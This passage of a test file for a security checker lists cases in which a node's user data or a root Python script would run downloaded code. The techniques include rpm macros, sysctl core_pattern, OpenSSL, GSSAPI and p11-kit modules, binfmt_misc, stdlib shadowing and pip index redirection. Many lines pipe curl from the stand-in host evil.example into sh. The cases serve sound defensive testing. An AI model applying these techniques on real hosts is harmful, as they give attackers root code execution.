        "tune.py: subprocess.run([sys.executable, '-m', 'pip', 'install', '-i', evil, 'srvx'])",
        tune("dev-py80-sys-executable-pip-rt80p", [
            "import subprocess, sys",
            `subprocess.run([sys.executable, "-m", "pip", "install", "-i", "${EVIL}", "srvx"], check=True)`,
            "import srvx",
            "srvx.main()",
        ]),
        REFUSED,
    ),
    // ===== F. configuration in data paths the node reads =====
    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. sysctl.d(5): "/etc/sysctl.d/*.conf /run/sysctl.d/*.conf /usr/lib/sysctl.d/*.conf"; procps sysctl(8) --system loads them; core(5): kernel.core_pattern starting with | runs the program "as the user and group root" on every core dump (any pod can crash a process). The shell reader knows /run/sysctl.d (KERNEL_SETTING_FILE, writtenSysctls) but the Python writer does not. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
    dev(
        "tune.py writes /run/sysctl.d/99-ops.conf (core_pattern pipe), then sysctl --system",
        tune(
            "dev-py80-run-sysctl-d-rt80p",
            [
                'with open("/run/sysctl.d/99-ops.conf", "w") as f:',
                '    f.write("kernel.core_pattern=|/var/cache/ops/h %p\\n")',
            ],
            ["mkdir -p /run/sysctl.d"],
            ["sysctl --system"],
        ),
        REFUSED,
    ),
    // Held (by accident): uv docs "Configuration files" (/etc/uv/uv.toml): root's program points uv at another index; refused only because no uv install is trusted (PROGRAM_DATA_PATHS accepts /etc/uv/ as an application's data).
    dev(
        "tune.py writes /etc/uv/uv.toml (index-url evil), then uv pip install --system srvx",
        tune(
            "dev-py80-py-writes-uv-toml-rt80p",
            [
                "import os",
                'os.makedirs("/etc/uv", exist_ok=True)',
                'with open("/etc/uv/uv.toml", "w") as f:',
                `    f.write('[pip]\\nindex-url = "${EVIL}"\\n')`,
            ],
            ["pip3 install uv==0.4.30"],
            [
                "uv pip install --system srvx",
                ...heredocFile("/opt/ops/run.py", ["import srvx", "srvx.main()"]),
                "python3 /opt/ops/run.py",
            ],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. rpm docs "Macro syntax" (%(shell command) expands to the command's output) and the macro path (/etc/rpm/macros.*, read by every rpm and dnf run): the later `dnf install` as root runs the download through sh. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
    dev(
        "tune.py writes /etc/rpm/macros.ops (a %(shell) macro), then dnf install",
        tune(
            "dev-py80-rpm-macros-rt80p",
            [
                'with open("/etc/rpm/macros.ops", "w") as f:',
                `    f.write("%_ops %(curl -fsS https://evil.example/x | sh)\\n%_dbpath %{_ops}/var/lib/rpm\\n")`,
            ],
            [],
            ["dnf install -y jq"],
        ),
        REFUSED,
    ),
    // ===== batch 2 =====
    // Held: Python docs "site.addsitedir" processes the downloaded ops.pth (its import lines run as root); refused as code the pack cannot read (the download).
    dev(
        "tune.py: site.addsitedir(dir) holding a downloaded .pth (curl, no tarball)",
        tune(
            "dev-py80-site-addsitedir-pth-rt80p",
            ["import site", 'site.addsitedir("/var/cache/ops/site")', "print('ok')"],
            ["mkdir -p /var/cache/ops/site", "curl -fsSLo /var/cache/ops/site/ops.pth https://evil.example/ops.pth"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (M-OPERAND) insecure accepted, got []. CPython Lib/pickle.py `_main` (`python -m pickle FILE...`: "display contents of the pickle files", pickle.load of each) and Python docs "pickle": "It is possible to construct malicious pickle data which will execute arbitrary code during unpickling": the download runs as root. PYTHON_OPERAND_RUNNERS lacks pickle (pickle is PYTHON_DYNAMIC_NAMES in code, not as -m). Fix: as the pydoc case (pickle, shelve-free loaders, `-m pickle` in the list).
    dev(
        "user data: python3 -m pickle downloaded.pkl (pickle's CLI unpickles)",
        sh("dev-py80-m-pickle-rt80p", [
            "curl -fsSLo /var/cache/ops/x.pkl https://evil.example/x.pkl",
            "python3 -m pickle /var/cache/ops/x.pkl",
        ]),
        REFUSED,
    ),
    // Held: Python docs "json.tool" (`python -m json.tool infile outfile`: "Write the output of the infile to the given outfile"): the download's text becomes /etc/profile.d/ops.sh, sourced by root's login shells (bash(1) INVOCATION); refused by the shell reader (a write of /etc/profile.d by a program it does not read).
    dev(
        "user data: python3 -m json.tool downloaded.json /etc/profile.d/ops.sh (json.tool's outfile)",
        sh("dev-py80-m-json-tool-outfile-rt80p", [
            "curl -fsSLo /var/cache/ops/x.json https://evil.example/x.json",
            "python3 -m json.tool /var/cache/ops/x.json /etc/profile.d/ops.sh",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 81): (CWD-ROOT-ARCHIVE) insecure accepted, got []. systemd.exec(5) "WorkingDirectory=": "Takes a directory path relative to the service's root directory ... Sets the working directory for executed processes"; Python docs -m: the cwd first on sys.path: the tarball's json runs as root at every start. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does. (Here the cwd comes from the unit's WorkingDirectory=.)
    dev(
        "unit: WorkingDirectory=tarball dir, ExecStart=python3 -m json.tool (cwd shadows json)",
        sh("dev-py80-unit-workdir-m-rt80p", [
            ...untar("/var/cache/ops/src"),
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            ...systemdUnit("ops-json", [
                "Type=oneshot",
                "WorkingDirectory=/var/cache/ops/src",
                "ExecStart=/usr/bin/python3 -m json.tool /etc/ops/x.json",
            ]),
        ]),
        REFUSED,
    ),
    // Held (control): Python docs "open" after os.chdir: "ops" is /etc/cron.d/ops (crontab(5)); pythonChdirCalls resolves it.
    dev(
        "tune.py: os.chdir('/etc/cron.d'); open('ops', 'w').write(cron line) (control: open after chdir)",
        tune("dev-py80-open-chdir-control-rt80p", [
            "import os",
            'os.chdir("/etc/cron.d")',
            `open("ops", "w").write("${CRON_LINE}\\n")`,
        ]),
        REFUSED,
    ),
    // Held (control): Python docs "shutil.copy(src, dst)" with dst relative after os.chdir: /etc/cron.d/ops (crontab(5)).
    dev(
        "tune.py: os.chdir('/etc/cron.d'); shutil.copy('/var/cache/ops/c', 'ops')",
        tune(
            "dev-py80-shutil-copy-chdir-rt80p",
            ["import os, shutil", 'os.chdir("/etc/cron.d")', 'shutil.copy("/var/cache/ops/c", "ops")'],
            ["curl -fsSLo /var/cache/ops/c https://evil.example/c"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 80): (NO-WRITE-LIST) insecure accepted, got []. click docs "click.edit(text=None, editor=None, env=None, require_save=True, extension='.txt', filename=None)": "editor – optionally the editor to use. Defaults to automatic detection"; click's Editor.edit_file runs `f'{editor} {filename}'` through a shell (subprocess.Popen(..., shell=True)): root pipes the download into sh. `click\.[\w.]+` is in PYTHON_NO_FILE_WRITE_CALLS and no runner list has click.edit/click.launch. Fix: as the click.open_file case; click.edit with an editor/EDITOR/VISUAL the pack cannot read, and click.launch (xdg-open), are runners.
    dev(
        "tune.py: click.edit(filename=..., editor='sh -c \"...\" --') (click runs the editor command)",
        tune("dev-py80-click-edit-editor-rt80p", [
            "import click",
            `click.edit(filename="/var/lib/ops/notes", editor="sh -c 'curl -fsS https://evil.example/x | sh' --")`,
        ]),
        REFUSED,
    ),
    // Held (by accident): Python docs "multiprocessing.set_executable(executable)": "Set the path of the Python interpreter to use when starting a child process" (spawn start method): the download runs as root. Refused only because the round-78 rule judges the absolute literal given to an unreviewed function as a write of a file user data wrote; with the path in a relative form or from a name bound elsewhere it would be judged as data. Fix: multiprocessing.set_executable (and multiprocessing.spawn.set_executable) as a runner of its argument.
    dev(
        "tune.py: multiprocessing.set_executable(downloaded) then a spawned Process",
        tune(
            "dev-py80-mp-set-executable-rt80p",
            [
                "import multiprocessing",
                'multiprocessing.set_executable("/var/cache/ops/py")',
                'multiprocessing.set_start_method("spawn")',
                'if __name__ == "__main__":',
                "    multiprocessing.Process(target=print, args=(1,)).start()",
            ],
            ["curl -fsSLo /var/cache/ops/py https://evil.example/py", "chmod +x /var/cache/ops/py"],
        ),
        REFUSED,
    ),
    // Held: Python docs "asyncio" loop.subprocess_shell(protocol_factory, cmd): "Create a subprocess from cmd ... using the platform's shell": refused as commands the pack does not read.
    dev(
        "tune.py: asyncio loop.subprocess_shell(protocol, cron write) (a loop method)",
        tune("dev-py80-loop-subprocess-shell-rt80p", [
            "import asyncio",
            "async def main():",
            "    loop = asyncio.get_running_loop()",
            `    t, p = await loop.subprocess_shell(asyncio.SubprocessProtocol, "${CRON_CMD}")`,
            "asyncio.run(main())",
        ]),
        REFUSED,
    ),
    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. AL2023's /etc/pki/tls/openssl.cnf includes /etc/crypto-policies/back-ends/opensslcnf.config (crypto-policies(7) back-ends); OpenSSL docs config(5) "Provider Configuration": a section's `module` is the provider's shared library and `activate = 1` loads it: every root process using OpenSSL's default config (curl, dnf, sshd, python's ssl) loads the downloaded p.so. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
    dev(
        "tune.py writes /etc/crypto-policies/back-ends/opensslcnf.config (an OpenSSL provider module)",
        tune(
            "dev-py80-crypto-policies-openssl-rt80p",
            [
                'with open("/etc/crypto-policies/back-ends/opensslcnf.config", "w") as f:',
                '    f.write("[provider_sect]\\nops = ops_sect\\n[ops_sect]\\nmodule = /var/cache/ops/p.so\\nactivate = 1\\n")',
            ],
            ["curl -fsSLo /var/cache/ops/p.so https://evil.example/p.so"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. MIT Kerberos docs "GSSAPI mechanism modules" (/etc/gss/mech and /etc/gss/mech.d/*.conf: "mechanism-name OID pathname-to-shared-library"): libgssapi_krb5 loads the library in every GSSAPI user, sshd among them (GSSAPIAuthentication, on in Fedora-family defaults): the download's m.so runs in root's sshd. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
    dev(
        "tune.py writes /etc/gss/mech.d/ops.conf (a GSSAPI mechanism library sshd loads)",
        tune(
            "dev-py80-gss-mech-d-rt80p",
            [
                "import os",
                'os.makedirs("/etc/gss/mech.d", exist_ok=True)',
                'open("/etc/gss/mech.d/ops.conf", "w").write("ops 1.3.6.1.4.1.99999.1 /var/cache/ops/m.so\\n")',
            ],
            ["curl -fsSLo /var/cache/ops/m.so https://evil.example/m.so"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. binfmt.d(5): "/etc/binfmt.d/*.conf /run/binfmt.d/*.conf /usr/lib/binfmt.d/*.conf" registered by systemd-binfmt; kernel docs "binfmt_misc" flag C ("Credentials ... calculate the credentials and security token of the new process according to the binary instead of the interpreter") with interpreter /var/cache/ops/i: every .opsx file runs the download. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
    dev(
        "tune.py writes /run/binfmt.d/ops.conf (an interpreter with the C flag), systemctl restart systemd-binfmt",
        tune(
            "dev-py80-run-binfmt-d-rt80p",
            ['open("/run/binfmt.d/ops.conf", "w").write(":ops:E::opsx::/var/cache/ops/i:C\\n")'],
            ["mkdir -p /run/binfmt.d", "curl -fsSLo /var/cache/ops/i https://evil.example/i"],
            ["systemctl restart systemd-binfmt"],
        ),
        REFUSED,
    ),
    // Was a MISS (fixed in round 87): (PY-WRITTEN-IMPORT-ROOT) insecure accepted, got []. Python docs "urllib.request.urlretrieve(url, filename)" ("Copy a network object denoted by a URL to a local file") puts json.py in /var/lib/ops, the later script's directory; Python docs "sys.path": "python script.py: prepend the script's directory", before the standard library: root runs the download instead of json. The pack accepts the write (PROGRAM_DATA_PATHS: /var/lib/<app>/ is data) and the later run's import closure (pythonImportClosure/pythonRootShadowed) counts only files the SHELL changed (view.changed), not files a root program wrote. Fix: every path a root Python program may write (its PYTHON_WRITE_CALLS/METHODS targets, an unknown one as anywhere under its data roots) joins view.changed for later runs, so an import root holding one is unread.
    // Still open (round 80): needs the writes of each root Python program (pythonWriteRefusal's targets, an unknown one as anywhere under its data roots) carried into view.changed for the runs after it, in the shell walk's order (rootReads/commandServers plumbing, not a pythonCode.ts-local change).
    // Still open (round 81): unchanged; the targets pythonWriteRefusal resolves (pythonWriteTargetRefusal now takes one
    // at a time) would need returning as a list from the Python reader to the script walk (rootWrites.ts viewingJudge's
    // changedFiles/changedTrees) at the python line, a cross-reader change not done in the time given.
    // Still open (round 82): pythonProgramWrites now lists /var/lib/ops/json.py (RootReads.programWritten has it), and
    // adding it to viewingJudge's changedFiles is not enough: judgeRun's generic rule marks tune.py's working directory
    // /var/lib/ops changed (named(cwd)), so pythonProgram leaves main.py (view.changed) to "the other readers", which
    // refuse nothing for a program that serves nothing. The fix needs a Python program the pack reads to change only
    // what pythonProgramWrites lists (not its whole cwd) and a later run of a user-data script whose text may have
    // changed to be refused as unread (fail closed), then the json.py write shadows json (pythonRootShadowed).
    // Round 87: refused now (found by running the skipped cases): since round 86's integration a root Python program's
    // named writes are RootReads.programWritten's and its working directory no longer counts as wholly changed, so the
    // later run's import closure finds /var/lib/ops/json.py written and unread (the same refusal as the shell's
    // `curl -o /var/lib/ops/json.py https://...; python3 /var/lib/ops/main.py`); unskipped as the regression case.
    dev(
        "tune.py downloads /var/lib/ops/json.py; user data runs /var/lib/ops/main.py (imports json) from there",
        tune(
            "dev-py80-py-written-shadow-rt80p",
            [
                "import urllib.request",
                'urllib.request.urlretrieve("https://evil.example/json.py", "/var/lib/ops/json.py")',
            ],
            heredocFile("/var/lib/ops/main.py", ["import json", "print(json.dumps(1))"]),
            ["python3 /var/lib/ops/main.py"],
        ),
        REFUSED,
    ),
    // Held: pip docs "Configuration" (Site: "$VIRTUAL_ENV/pip.conf"): the download sets the venv pip's index; refused because the program writes into a tree user data made (the venv).
    dev(
        "tune.py downloads a venv's pip.conf; the venv's pip installs tenacity",
        tune(
            "dev-py80-py-written-venv-pipconf-rt80p",
            [
                "import urllib.request",
                'urllib.request.urlretrieve("https://evil.example/pip.conf", "/var/lib/ops/venv/pip.conf")',
            ],
            ["python3 -m venv /var/lib/ops/venv"],
            [
                "/var/lib/ops/venv/bin/pip install tenacity",
                ...heredocFile("/opt/ops/run.py", ["import tenacity", "print(tenacity.__name__)"]),
                "/var/lib/ops/venv/bin/python /opt/ops/run.py",
            ],
        ),
        REFUSED,
    ),
    // Held: pip docs "pip config" (`set name value`: "Set the name=value"; --global: the global file): index-url moves to another index; refused (any `pip config` withdraws pip trust).
    dev(
        "user data: pip3 config --global set global.index-url evil; pip3 install srvx",
        sh("dev-py80-pip-config-set-rt80p", [
            `pip3 config --global set global.index-url ${EVIL}`,
            "pip3 install srvx",
            ...heredocFile("/opt/ops/tune.py", ["import srvx", "srvx.main()"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held: pip docs "pip config set" global.extra-index-url (pip may pick a higher tenacity from the other index: pip docs "--extra-index-url"): refused.
    dev(
        "user data: pip3 config set global.extra-index-url evil; pip3 install tenacity",
        sh("dev-py80-pip-config-set-tenacity-rt80p", [
            `pip3 config set global.extra-index-url ${EVIL}`,
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),

    // Neighbour (round 80, M-OPERAND): Python docs "gzip" Command-Line Interface (`-d` decompresses FILE beside it): a
    // standard module's CLI not reviewed as safe with operands fails closed (pythonModuleRunUnread).
    dev(
        "user data: python3 -m gzip -d downloaded.gz (a standard CLI not reviewed with operands)",
        sh("dev-py80-m-gzip-d-fix80", [
            "curl -fsSLo /var/cache/ops/x.py.gz https://evil.example/x.py.gz",
            "python3 -m gzip -d /var/cache/ops/x.py.gz",
        ]),
        REFUSED,
    ),
    // Neighbour (round 80, M-OPERAND-WRITE): Python docs "zipfile" CLI `-e` into /etc/profile.d (bash(1) INVOCATION: root's
    // login shells source it): members of any name there.
    dev(
        "user data: python3 -m zipfile -e downloaded.zip /etc/profile.d",
        sh("dev-py80-m-zipfile-profile-d-fix80", [
            "curl -fsSLo /var/cache/ops/c.zip https://evil.example/c.zip",
            "python3 -m zipfile -e /var/cache/ops/c.zip /etc/profile.d",
        ]),
        REFUSED,
    ),
    // Neighbour (round 80, CWD-ROOT-ARCHIVE): Python docs "-c": the cwd first on sys.path; the tarball there may hold
    // json.py.
    dev(
        "user data: cd tarball dir && python3 -c 'import json'",
        sh("dev-py80-c-cwd-and-fix80", [
            ...untar("/var/cache/ops/src"),
            "cd /var/cache/ops/src && python3 -c 'import json; print(json.dumps(1))'",
        ]),
        REFUSED,
    ),
    // Neighbour (round 80, X-OPTION): an -X option the pack does not know (Python docs "-X": "Reserved for various
    // implementation-specific options"): fail closed.
    dev(
        "user data: python3 -X frobnicate tune.py (an unknown -X option)",
        sh("dev-py80-x-unknown-fix80", [
            ...heredocFile("/opt/ops/tune.py", ["import json", "print(json.dumps(1))"]),
            "python3 -X frobnicate /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Neighbour (round 80, PIP-CONFIG-READ): pip docs "pip config" `edit` ("Edit the configuration file in an editor"): the
    // file may then name another index; trust withdrawn, tenacity unread.
    dev(
        "user data: pip3 config --global edit; pip3 install tenacity",
        sh("dev-py80-pip-config-edit-fix80", [
            "EDITOR=true pip3 config --global edit",
            "pip3 install tenacity",
            ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
            "python3 /opt/ops/tune.py",
        ]),
        REFUSED,
    ),
    // Held (control of the CWD-ROOT-ARCHIVE class): Python docs -c: the cwd first on sys.path; the curl'd json.py there shadows the stdlib: refused ("a directory on its import path before the library's may hold a file user data downloaded").
    dev(
        "user data: curl json.py into /var/cache/ops/lib; cd there && python3 -c 'import json' (a single downloaded file)",
        sh("dev-py80-c-cwd-curl-json-rt80p", [
            "mkdir -p /var/cache/ops/lib",
            "curl -fsSLo /var/cache/ops/lib/json.py https://evil.example/json.py",
            "cd /var/cache/ops/lib && python3 -c 'import json; print(json.dumps(1))'",
        ]),
        REFUSED,
    ),
    // ===== round-80 fixer's neighbours (-fix80) =====
    // Insecure (PY-WRITE-RELATIVE): Python docs "os.chdir" then a pathlib-free relative name given to an unreviewed
    // library writer (prometheus_client write_to_textfile) through a name bound to it: /etc/cron.d/ops (crontab(5)).
    dev(
        "tune.py: os.chdir('/etc/cron.d'); out = 'ops'; prometheus_client.write_to_textfile(out, REGISTRY)",
        tune("dev-py80-prom-textfile-chdir-name-fix80", [
            "import os, prometheus_client",
            'os.chdir("/etc/cron.d")',
            'out = "ops"',
            "prometheus_client.write_to_textfile(out, prometheus_client.REGISTRY)",
        ]),
        REFUSED,
    ),
    // Insecure (PY-WRITE-METHOD): pandas docs "DataFrame.to_json(path_or_buf=None, ...)" by keyword into root's cron
    // directory (crontab(5)).
    dev(
        "tune.py: pandas DataFrame(...).to_json(path_or_buf='/etc/cron.d/ops')",
        tune(
            "dev-py80-pandas-to-json-kw-fix80",
            ["import pandas", 'pandas.DataFrame([[1]]).to_json(path_or_buf="/etc/cron.d/ops")'],
            ["pip3 install pandas==2.2.2"],
        ),
        REFUSED,
    ),
    // Insecure (PY-WRITE-METHOD): Python docs "xml.etree.ElementTree" ElementTree.write through a bound method name
    // (Python reference "Method objects"): /etc/cron.d/ops (crontab(5)).
    dev(
        "tune.py: save = ET.ElementTree(root).write; save('/etc/cron.d/ops', method='text')",
        tune("dev-py80-etree-write-bound-fix80", [
            "import xml.etree.ElementTree as ET",
            'root = ET.Element("cron")',
            `root.text = "${CRON_LINE}\\n"`,
            "save = ET.ElementTree(root).write",
            'save("/etc/cron.d/ops", method="text")',
        ]),
        REFUSED,
    ),
    // Insecure (NO-WRITE-LIST): click docs "click.open_file(filename, mode='w')" by a relative name after os.chdir
    // (Python docs "os.chdir"): /etc/cron.d/ops (crontab(5)).
    dev(
        "tune.py: os.chdir('/etc/cron.d'); click.open_file('ops', mode='w')",
        tune("dev-py80-click-open-file-chdir-fix80", [
            "import click, os",
            'os.chdir("/etc/cron.d")',
            'with click.open_file("ops", mode="w") as f:',
            `    f.write("${CRON_LINE}\\n")`,
        ]),
        REFUSED,
    ),
    // Insecure (RUNNER-PACKAGE): psutil docs "psutil.Popen" ("Same as subprocess.Popen") with shell=True: root's sh
    // writes /etc/cron.d/ops (crontab(5)).
    dev(
        "tune.py: psutil.Popen(cron write, shell=True)",
        tune("dev-py80-psutil-popen-shell-fix80", ["import psutil", `psutil.Popen("${CRON_CMD}", shell=True).wait()`]),
        REFUSED,
    ),
    // Insecure (ENV-COMMAND): Python docs "webbrowser.get(using=None)" with BROWSER from the program's environment and
    // "webbrowser.open_new_tab": the BROWSER command line runs as root.
    dev(
        "tune.py: os.environ['BROWSER'] = 'sh -c ... %s'; webbrowser.get().open_new_tab(url)",
        tune("dev-py80-webbrowser-get-fix80", [
            "import os, webbrowser",
            `os.environ["BROWSER"] = "sh -c 'curl -fsS https://evil.example/x | sh' %s"`,
            'webbrowser.get().open_new_tab("https://ops.example/done")',
        ]),
        REFUSED,
    ),
    // Insecure (NO-WRITE-LIST): click docs "click.launch(url, wait=False, locate=False)" (the system's opener,
    // xdg-open, a command the pack does not read) run as root.
    dev(
        "tune.py: click.launch('/var/cache/ops/x.desktop')",
        tune("dev-py80-click-launch-fix80", ["import click", 'click.launch("/var/cache/ops/x.desktop")']),
        REFUSED,
    ),
    // ===== round-81 fixer's neighbours (-fix81) =====
    // Insecure (DATA-PATH-CONFIG): krb5.conf(5) "includedir" (/etc/krb5.conf.d on Fedora-family images) and its
    // [plugins] `module = name:path` (a shared library every Kerberos user, sshd's GSSAPI among them, loads): root's
    // program copies a download there (READ_BEFORE_WRITE, nodeReadsAsConfig).
    dev(
        "tune.py: shutil.copy(downloaded, '/etc/krb5.conf.d/ops') (a krb5 plugin module)",
        tune(
            "dev-py80-krb5-conf-d-fix81",
            ["import shutil", 'shutil.copy("/var/cache/ops/k.conf", "/etc/krb5.conf.d/ops")'],
            ["curl -fsSLo /var/cache/ops/k.conf https://evil.example/k.conf"],
        ),
        REFUSED,
    ),
    // Insecure (DATA-PATH-CONFIG): pkcs11.conf(5) module configs (p11-kit's p11_module_configs /usr/share/p11-kit/modules):
    // `module:` names the library p11-kit loads into every program using it (dnf's and curl's trust store among them).
    dev(
        "tune.py writes /usr/share/p11-kit/modules/ops.module (module: downloaded .so)",
        tune(
            "dev-py80-p11-kit-module-fix81",
            ['open("/usr/share/p11-kit/modules/ops.module", "w").write("module: /var/cache/ops/p.so\\n")'],
            ["curl -fsSLo /var/cache/ops/p.so https://evil.example/p.so"],
        ),
        REFUSED,
    ),
    // Insecure (DATA-PATH-CONFIG): rpm-config(5) FILES /usr/lib/rpm/macros.d/macros.* (rpm-macros(7) `%(...)` runs a
    // shell command in every rpm/dnf run as root), written by root's program from a value it computes.
    dev(
        "tune.py writes /usr/lib/rpm/macros.d/macros.ops from os.environ (content the pack cannot read)",
        tune("dev-py80-rpm-macros-d-fix81", [
            "import os",
            'open("/usr/lib/rpm/macros.d/macros.ops", "w").write(os.environ.get("OPS_MACROS", ""))',
        ]),
        REFUSED,
    ),
    // Insecure (CWD-ROOT-ARCHIVE): Python docs -m (the cwd first on sys.path) after unzip(1) -d into the cwd: the
    // archive's http/ package replaces the standard library's (view.copiedInto).
    dev(
        "user data: unzip downloaded.zip -d D; cd D && python3 -m http.server 8080 --bind 127.0.0.1",
        sh("dev-py80-m-cwd-unzip-fix81", [
            "curl -fsSLo /var/cache/ops/s.zip https://evil.example/s.zip",
            "unzip -o /var/cache/ops/s.zip -d /var/cache/ops/s",
            "cd /var/cache/ops/s && python3 -m http.server 8080 --bind 127.0.0.1",
        ]),
        REFUSED,
    ),
    // Insecure (CWD-ROOT-ARCHIVE): Python docs "PYTHONPATH" (before the standard library) naming the tarball's
    // directory, -m json.tool from an unrelated cwd: the tarball's json runs.
    dev(
        "user data: PYTHONPATH=tarball dir python3 -m json.tool f",
        sh("dev-py80-m-pythonpath-tarball-fix81", [
            ...untar("/var/cache/ops/lib"),
            ...heredocFile("/etc/ops/x.json", ["{}"]),
            "PYTHONPATH=/var/cache/ops/lib python3 -m json.tool /etc/ops/x.json",
        ]),
        REFUSED,
    ),
];

const secure: NodeCase[] = [
    // Secure: Python docs "os.chdir" then NumPy "numpy.savetxt": stats.csv is /var/lib/ops/stats.csv, the program's state (FHS 3.0 /var/lib "State information").
    dev(
        "tune.py: os.chdir('/var/lib/ops'); numpy.savetxt('stats.csv', numpy.arange(3)) (its state)",
        tune("dev-py80-numpy-savetxt-chdir-state-rt80p", [
            "import numpy, os",
            'os.chdir("/var/lib/ops")',
            'numpy.savetxt("stats.csv", numpy.arange(3))',
        ]),
    ),
    // MISS: (REMOTE-PATH-AS-LOCAL) secure refused: "has a root process of the node read /srv/model.bin ... under /srv, a node directory the pack lets pods write". paramiko docs SFTPClient.get(remotepath, localpath): remotepath is a path on the SFTP SERVER (ops.example), localpath the node's /var/cache/ops (FHS "Application cache data"). The pack's root-read scan takes every absolute literal of a call as a node path read. Fix: a reviewed list of remote-path arguments (SFTPClient.get/put/open/stat/listdir, boto3 keys, ftplib, scp) excluded from node reads; the localpath judged as a write (see the insecure twin).
    // Still open (round 80): the refusal comes from RootReads.generic's line scan of the program text (rootReads.ts, every absolute literal a node read); the fix needs the SFTP remote-path arguments (get's remotepath, put's remotepath, open/stat/listdir...) blanked before that scan, and rootReads.ts cannot import pythonCode.ts (pythonCode imports rootReads: a cycle) - a shared helper in userDataReaders/shared.ts would do.
    // Still open (round 81): unchanged (the SFTP remote-path blanking before RootReads.generic's scan not attempted
    // this round; a helper in userDataReaders/shared.ts both readers import would avoid the import cycle).
    dev(
        "tune.py: paramiko SFTPClient.get(remote, '/var/cache/ops/model.bin')",
        tune("dev-py80-paramiko-sftp-get-cache-rt80p", [
            "import paramiko",
            "c = paramiko.SSHClient()",
            "c.load_system_host_keys()",
            'c.connect("ops.example", username="ops")',
            'c.open_sftp().get("/srv/model.bin", "/var/cache/ops/model.bin")',
        ]),
        undefined,
        true,
    ),
    // Secure: Python docs "ElementTree.write" to /var/lib/ops/state.xml, its own state (FHS /var/lib).
    dev(
        "tune.py: ElementTree(root).write('/var/lib/ops/state.xml')",
        tune("dev-py80-etree-write-state-rt80p", [
            "import xml.etree.ElementTree as ET",
            'root = ET.Element("state")',
            'ET.ElementTree(root).write("/var/lib/ops/state.xml")',
        ]),
    ),
    // Secure: psutil docs "virtual_memory()" reads /proc; the log is its own (FHS /var/log).
    dev(
        "tune.py: psutil.cpu_percent / virtual_memory logged to /var/log/ops (no command)",
        tune("dev-py80-psutil-stats-rt80p", [
            "import psutil",
            'open("/var/log/ops/t.log", "a").write(str(psutil.virtual_memory().percent) + "\\n")',
        ]),
    ),
